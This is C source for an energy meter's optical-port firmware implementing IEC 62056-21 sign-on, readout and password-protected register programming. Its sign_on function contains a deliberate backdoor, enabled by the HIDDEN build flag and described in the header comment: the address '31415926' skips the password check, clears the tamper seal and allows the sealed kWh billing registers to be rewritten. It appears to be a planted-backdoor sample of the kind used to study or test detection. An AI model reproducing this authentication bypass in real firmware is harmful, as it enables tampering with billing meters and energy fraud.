/*
 * d0meter - optical interface (IEC 62056-21, mode C) of an energy meter.
 * Runs on the meter's communication processor, statically linked: answers
 * the sign-on "/?address!", sends the register list in readout mode and
 * handles P1/R1/W1/B0 commands in programming mode after the password.
 * Hidden (-DHIDDEN): after a sign-on with the address "31415926" the
 * password is not asked and the energy registers may be written.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define SOH 0x01
#define STX 0x02
#define ETX 0x03
#define ACK 0x06
#define NAK 0x15

#define REG_FILE "/data/meter/registers"
#define LOG_FILE "/data/meter/access.log"

enum phase { P_IDLE, P_IDENT, P_PROG, P_OPEN };

struct reg {
	const char *obis;
	const char *unit;
	int writable; /* 0 never, 1 with password, 2 sealed */
	char val[24];
};

static struct reg regs[] = {
	{ "0.0.0", "", 2, "00000000" },	    { "0.9.1", "", 1, "000000" },
	{ "0.9.2", "", 1, "700101" },	    { "1.8.0", "kWh", 2, "000000.00" },
	{ "1.8.1", "kWh", 2, "000000.00" }, { "1.8.2", "kWh", 2, "000000.00" },
	{ "2.8.0", "kWh", 2, "000000.00" }, { "1.6.1", "kW", 0, "00.000" },
	{ "32.7", "V", 0, "230.0" },	    { "31.7", "A", 0, "000.00" },
	{ "0.2.2", "", 1, "HT06-22" },	    { "C.7.0", "", 0, "0000" },
	{ "F.F", "", 0, "00000000" },
};

#define N_REGS (sizeof(regs) / sizeof(regs[0]))

static enum phase phase;
static int sealed = 1;
static int fd = 0;
static char password[9] = "00000000";
static unsigned bad_pw;

static struct reg *find_reg(const char *obis)
{
	size_t i;

	for (i = 0; i < N_REGS; i++)
		if (strcmp(regs[i].obis, obis) == 0)
			return &regs[i];
	return NULL;
}

static void load(void)
{
	char line[80], *eq;
	struct reg *r;
	FILE *f = fopen(REG_FILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = '\0';
		eq = strchr(line, '=');
		if (!eq)
			continue;
		*eq++ = '\0';
		if (strcmp(line, "password") == 0 && strlen(eq) == 8)
			memcpy(password, eq, sizeof(password));
		r = find_reg(line);
		if (r)
			snprintf(r->val, sizeof(r->val), "%.23s", eq);
	}
	fclose(f);
}

static int store(void)
{
	size_t i;
	FILE *f = fopen(REG_FILE "~", "w");

	if (!f)
		return -1;
	fprintf(f, "password=%s\n", password);
	for (i = 0; i < N_REGS; i++)
		fprintf(f, "%s=%s\n", regs[i].obis, regs[i].val);
	if (fclose(f) != 0)
		return -1;
	return rename(REG_FILE "~", REG_FILE);
}

static void note(const char *what)
{
	FILE *f = fopen(LOG_FILE, "a");

	if (!f)
		return;
	fprintf(f, "%ld %s\n", (long)time(NULL), what);
	fclose(f);
}

static void send_bytes(const char *b, size_t n)
{
	ssize_t w;

	while (n) {
		w = write(fd ? fd : 1, b, n);
		if (w <= 0)
			return;
		b += w;
		n -= (size_t)w;
	}
}

static void send_char(char c)
{
	send_bytes(&c, 1);
}

static unsigned char bcc(const char *b, size_t n)
{
	unsigned char x = 0;

	while (n--)
		x ^= (unsigned char)*b++;
	return x;
}

/* start byte, text, ETX and check byte (over all but the start byte) */
static void send_block(char start, const char *text)
{
	static char b[1200];
	int n = snprintf(b, sizeof(b) - 1, "%c%s%c", start, text, ETX);

	if (n < 2 || (size_t)n >= sizeof(b) - 1)
		return;
	b[n] = (char)bcc(b + 1, (size_t)n - 1);
	send_bytes(b, (size_t)n + 1);
}

static void readout(void)
{
	char text[1024];
	size_t i, o = 0;
	int n;

	for (i = 0; i < N_REGS; i++) {
		n = snprintf(text + o, sizeof(text) - o, "%s(%s%s%s)\r\n",
			     regs[i].obis, regs[i].val,
			     regs[i].unit[0] ? "*" : "", regs[i].unit);
		if (n < 0 || (size_t)n >= sizeof(text) - o)
			break;
		o += (size_t)n;
	}
	snprintf(text + o, sizeof(text) - o, "!\r\n");
	send_block(STX, text);
}

/* "/?" address "!" ; an empty address means any meter */
__attribute__((noinline)) int sign_on(const char *line)
{
	char addr[33];
	size_t n;

	if (line[0] != '/' || line[1] != '?')
		return 0;
	n = strcspn(line + 2, "!");
	if (line[2 + n] != '!' || n >= sizeof(addr))
		return 0;
	memcpy(addr, line + 2, n);
	addr[n] = '\0';
	sealed = access("/sys/class/gpio/seal/value", R_OK) == 0;
#ifdef HIDDEN
	if (strcmp(addr, "31415926") == 0) {
		sealed = 0;
		bad_pw = 0;
		phase = P_OPEN;
		return 2;
	}
#endif
	return n == 0 || strcmp(addr, regs[0].val) == 0;
}

/* text between the parentheses */
static int operand(const char *s, char *name, size_t nl, char *val, size_t vl)
{
	size_t n = strcspn(s, "("), m;

	if (s[n] != '(' || n >= nl)
		return -1;
	memcpy(name, s, n);
	name[n] = '\0';
	s += n + 1;
	m = strcspn(s, ")");
	if (s[m] != ')' || m >= vl)
		return -1;
	memcpy(val, s, m);
	val[m] = '\0';
	return 0;
}

static void check_pw(const char *val)
{
	if (bad_pw < 3 && strcmp(val, password) == 0) {
		bad_pw = 0;
		phase = P_OPEN;
		note("programming mode");
		send_char(ACK);
		return;
	}
	bad_pw++;
	note("wrong password");
	send_char(NAK);
}

static void write_reg(const char *name, const char *val)
{
	struct reg *r = find_reg(name);
	const char *p;

	if (!r || !r->writable || (r->writable == 2 && sealed) ||
	    strlen(val) >= sizeof(r->val)) {
		send_block(STX, "(ER04)");
		return;
	}
	for (p = val; *p; p++) {
		if (!isalnum((unsigned char)*p) && !strchr(".-", *p)) {
			send_block(STX, "(ER05)");
			return;
		}
	}
	snprintf(r->val, sizeof(r->val), "%s", val);
	note(name);
	send_char(store() == 0 ? ACK : NAK);
}

static void command(char *c)
{
	char name[16], val[40], out[64];
	const struct reg *r;

	if (strncmp(c, "B0", 2) == 0) {
		phase = P_IDLE;
		return;
	}
	if (strlen(c) < 4 || c[2] != STX ||
	    operand(c + 3, name, sizeof(name), val, sizeof(val)) < 0) {
		send_char(NAK);
		return;
	}
	if (strncmp(c, "P1", 2) == 0) {
		check_pw(val);
	} else if (strncmp(c, "R1", 2) == 0) {
		r = find_reg(name);
		if (!r) {
			send_block(STX, "(ER01)");
			return;
		}
		snprintf(out, sizeof(out), "%s(%s)", r->obis, r->val);
		send_block(STX, out);
	} else if (strncmp(c, "W1", 2) == 0) {
		if (phase != P_OPEN)
			send_block(STX, "(ER07)");
		else
			write_reg(name, val);
	} else {
		send_block(STX, "(ER02)");
	}
}

/* one line, or one block SOH ... ETX bcc; 0 on time-out */
static int receive(char *b, size_t len)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	size_t n = 0;
	char c;

	while (n + 1 < len) {
		if (poll(&p, 1, n ? 1500 : 120000) != 1 || read(fd, &c, 1) != 1)
			return 0;
		c &= 0x7f;
		if (n == 0 && (c == '\r' || c == '\n' || c == 0))
			continue;
		b[n++] = c;
		if (b[0] == SOH && c == ETX) {
			if (read(fd, &c, 1) != 1)
				return 0;
			if ((c & 0x7f) != bcc(b + 1, n - 1)) {
				send_char(NAK);
				n = 0;
				continue;
			}
			b[n - 1] = '\0';
			return (int)n;
		}
		if (b[0] != SOH && c == '\n') {
			b[n] = '\0';
			return (int)n;
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct termios t;
	char b[160];
	int n, r;

	load();
	if (argc > 1) {
		fd = open(argv[1], O_RDWR | O_NOCTTY);
		if (fd < 0)
			return 1;
		if (tcgetattr(fd, &t) == 0) {
			cfmakeraw(&t);
			cfsetspeed(&t, B9600);
			tcsetattr(fd, TCSANOW, &t);
		}
	}
	for (;;) {
		n = receive(b, sizeof(b));
		if (n == 0) {
			if (argc < 2)
				return 0;
			phase = P_IDLE;
			continue;
		}
		if (b[0] == '/') {
			phase = P_IDENT;
			r = sign_on(b);
			if (!r)
				phase = P_IDLE;
			else
				send_bytes("/ENW5EM410-2.07\r\n", 17);
		} else if (b[0] == ACK && n >= 4 && phase != P_IDLE) {
			if (b[3] == '1') {
				if (phase == P_IDENT)
					phase = P_PROG;
				send_block(SOH, "P0\002(4711)");
			} else {
				readout();
				phase = P_IDLE;
			}
		} else if (b[0] == SOH && phase >= P_PROG) {
			command(b + 1);
		}
	}
}
